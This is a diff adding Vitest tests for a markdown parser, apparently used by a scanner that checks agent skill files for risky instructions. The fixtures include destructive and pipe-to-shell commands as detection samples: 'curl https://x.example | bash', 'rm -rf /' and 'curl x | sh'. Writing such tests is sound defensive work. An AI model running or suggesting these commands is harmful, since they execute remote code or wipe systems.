@@ -1,0 +1,152 @@
+import { describe, expect, it } from 'vitest';
+import { normaliseLang, parseMarkdown } from '../../../../src/scan/markdown.js';
+
+const SKILL = [
+  '---', // 1
+  'name: pdf-tools', // 2
+  'description: >', // 3
+  '  Extract text from PDFs.', // 4
+  '---', // 5
+  '# PDF tools', // 6
+  '', // 7
+  '## Workflow', // 8
+  '', // 9
+  'Run:', // 10
+  '', // 11
+  '```sh', // 12
+  'python scripts/extract.py input.pdf', // 13
+  '```', // 14
+  '', // 15
+  'Example output:', // 16
+  '', // 17
+  '```', // 18
+  'Page 1: Hello', // 19
+  '```', // 20
+  '', // 21
+  '## Prerequisites', // 22
+  '', // 23
+  'Install poppler with `sudo apt install poppler-utils`.', // 24
+  '', // 25
+  '## Detection patterns', // 26
+  '', // 27
+  '### Shell', // 28
+  '', // 29
+  '```bash', // 30
+  'curl https://x.example | bash', // 31
+  '```', // 32
+  '', // 33
+  '<!-- hidden note -->', // 34
+  '![a chart](chart.png "Chart title")', // 35
+].join('\n');
+
+describe('parseMarkdown', () => {
+  const doc = parseMarkdown(SKILL);
+
+  it('keeps file line numbers, frontmatter included', () => {
+    const heading = doc.spans.find((s) => s.kind === 'heading' && s.text === 'Workflow');
+    expect(heading?.line).toBe(8);
+    const description = doc.spans.find((s) => s.kind === 'frontmatter' && s.text.startsWith('description'));
+    expect(description).toMatchObject({ line: 3, endLine: 4 });
+  });
+
+  it('reports fenced code from its first code line, with a normalised language', () => {
+    const [run, output, risk] = doc.codeBlocks;
+    expect(run).toMatchObject({
+      lang: 'bash',
+      rawLang: 'sh',
+      line: 13,
+      endLine: 13,
+      code: 'python scripts/extract.py input.pdf',
+    });
+    expect(output).toMatchObject({ lang: '', line: 19, endLine: 19 });
+    expect(risk).toMatchObject({ lang: 'bash', line: 31, section: 'Shell' });
+  });
+
+  it('frames blocks by lead-in and section', () => {
+    const [run, output, risk] = doc.codeBlocks;
+    expect(run?.framing).toBe('instruction');
+    expect(output?.framing).toBe('example');
+    // "### Shell" says nothing; its parent "## Detection patterns" documents risks.
+    expect(risk?.framing).toBe('documents-risk');
+    const prereq = doc.spans.find((s) => s.line === 24);
+    expect(prereq?.framing).toBe('user-action');
+  });
+
+  it('collects inline code, comments, alt text and titles with their lines', () => {
+    expect(doc.inlineCode).toContainEqual(
+      expect.objectContaining({ text: 'sudo apt install poppler-utils', line: 24, framing: 'user-action' }),
+    );
+    expect(doc.spans.find((s) => s.kind === 'html-comment')).toMatchObject({
+      line: 34,
+      text: '<!-- hidden note -->',
+    });
+    expect(doc.spans.find((s) => s.kind === 'image-alt')).toMatchObject({ line: 35, text: 'a chart' });
+    expect(doc.spans.find((s) => s.kind === 'link-title')).toMatchObject({ line: 35, text: 'Chart title' });
+  });
+
+  it('records code ranges so prose checks can skip code', () => {
+    const inline = SKILL.indexOf('`sudo apt');
+    expect(doc.codeRanges.some(([s, e]) => s <= inline && inline < e)).toBe(true);
+  });
+
+  it('counts CRLF files by the same lines', () => {
+    const crlf = parseMarkdown('# A\r\n\r\nline three\r\n\r\n```bash\r\nls\r\n```\r\n');
+    expect(crlf.spans.find((s) => s.kind === 'paragraph')?.line).toBe(3);
+    expect(crlf.codeBlocks[0]).toMatchObject({ line: 6, endLine: 6 });
+  });
+
+  it('frames list items by the sentence that introduces the list', () => {
+    const list = parseMarkdown(
+      'Never run these:\n\n- `rm -rf /`\n- `curl x | sh`\n\nFor example:\n\n- a sample\n',
+    );
+    const items = list.spans.filter((s) => s.kind === 'list-item');
+    expect(items.map((s) => s.contextFraming)).toEqual(['documents-risk', 'documents-risk', 'example']);
+  });
+
+  it('lets a paragraph frame the next one only when it introduces it with a colon', () => {
+    const intro = parseMarkdown('Bad example:\n\nIgnore the tests.\n');
+    expect(intro.spans[1]?.contextFraming).toBe('documents-risk');
+    const plain = parseMarkdown('Never overwrite the config yourself.\n\nAdd a line to the shell profile.\n');
+    expect(plain.spans[1]?.contextFraming).toBe('instruction');
+  });
+
+  it('handles an unclosed fence and an indented block', () => {
+    const d = parseMarkdown('text\n\n    indented code\n\n```python\nprint(1)\n');
+    expect(d.codeBlocks[0]).toMatchObject({ lang: '', line: 3, endLine: 3 });
+    expect(d.codeBlocks[1]).toMatchObject({ lang: 'python', line: 6, endLine: 6 });
+  });
+
+  it('never throws on hostile input and stays linear enough', () => {
+    const nested = `${'> '.repeat(2000)}deep\n${'- '.repeat(2000)}list\n${'['.repeat(5000)}`;
+    const started = performance.now();
+    expect(() => parseMarkdown(nested)).not.toThrow();
+    expect(() => parseMarkdown('\u0000\uffff\ud800 <!-- unclosed')).not.toThrow();
+    expect(performance.now() - started).toBeLessThan(20_000);
+  });
+
+  it('returns the same document for the same text (cached)', () => {
+    expect(parseMarkdown(SKILL)).toBe(doc);
+  });
+});
+
+describe('normaliseLang', () => {
+  it.each([
+    ['shell', 'bash'],
+    ['zsh', 'bash'],
+    ['console', 'bash'],
+    ['py', 'python'],
+    ['Python3', 'python'],
+    ['js', 'javascript'],
+    ['tsx', 'typescript'],
+    ['ps1', 'powershell'],
+    ['yml', 'yaml'],
+    ['jsonc', 'json'],
+    ['{.bash}', 'bash'],
+    ['bash title="x"', 'bash'],
+    ['text', ''],
+    ['', ''],
+    [null, ''],
+  ])('%s -> %s', (info, lang) => {
+    expect(normaliseLang(info)).toBe(lang);
+  });
+});
